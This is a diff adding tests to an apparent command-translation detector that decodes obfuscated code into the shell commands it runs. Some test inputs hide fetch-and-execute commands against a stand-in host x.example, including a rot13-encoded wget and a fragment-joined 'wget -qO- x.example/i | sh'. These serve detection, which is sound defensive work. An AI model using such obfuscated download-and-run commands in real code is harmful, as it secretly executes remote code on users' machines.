@@ -130,3 +130,42 @@ def test_importing_a_harmless_written_module_stays_low() -> None:
         "cd ~/src && python -c 'import tests.helpers'",
     ]
     assert score(replay_steps(steps)[-1]) < 0.3
+
+
+def test_rot13_literals_are_decoded_where_they_stand() -> None:
+    """`codecs.decode('…', 'rot13')` passed to a process API runs the decoded text."""
+    shell = translate(
+        "import codecs, os\nos.system(codecs.decode('jtrg -d bhg uggc://k.rknzcyr/c', 'rot13'))"
+    )
+    assert "wget -q out http://x.example/p" in shell
+
+
+def test_fragments_joined_into_a_command_are_spelled_out() -> None:
+    """An array of string pieces joined with `''` and run is read as the command it spells."""
+    code = (
+        "const cp = require('child_process');\n"
+        "const parts = ['wg', 'et -q', 'O- x.exa', 'mple/i | s', 'h'];\n"
+        "cp.execSync(parts.join(''));\n"
+    )
+    assert "wget -qO- x.example/i | sh" in translate(code).splitlines()
+
+
+def test_fragments_joined_with_a_separator_are_left_alone() -> None:
+    """Joining words with `', '` builds text, not a hidden command."""
+    code = (
+        "import subprocess\nnames = ', '.join(['ab', 'cd', 'ef'])\n"
+        "subprocess.run(['echo', names])\n"
+    )
+    assert "abcdef" not in translate(code)
+
+
+def test_an_options_object_adds_no_words_to_the_command() -> None:
+    """`execSync('make build', {stdio: 'ignore'})` runs `make build`, nothing more."""
+    shell = translate("require('child_process').execSync('make build', {stdio: 'ignore'})")
+    assert shell.splitlines()[-1] == "make build"
+
+
+def test_variables_in_an_argv_list_keep_their_place() -> None:
+    """A variable inside `Popen([...])` stays a word, so later words keep their position."""
+    shell = translate("subprocess.Popen(['rsync', '-a', src, 'backup@vault:/d/'])")
+    assert shell.splitlines() == ["rsync -a '$src' backup@vault:/d/"]
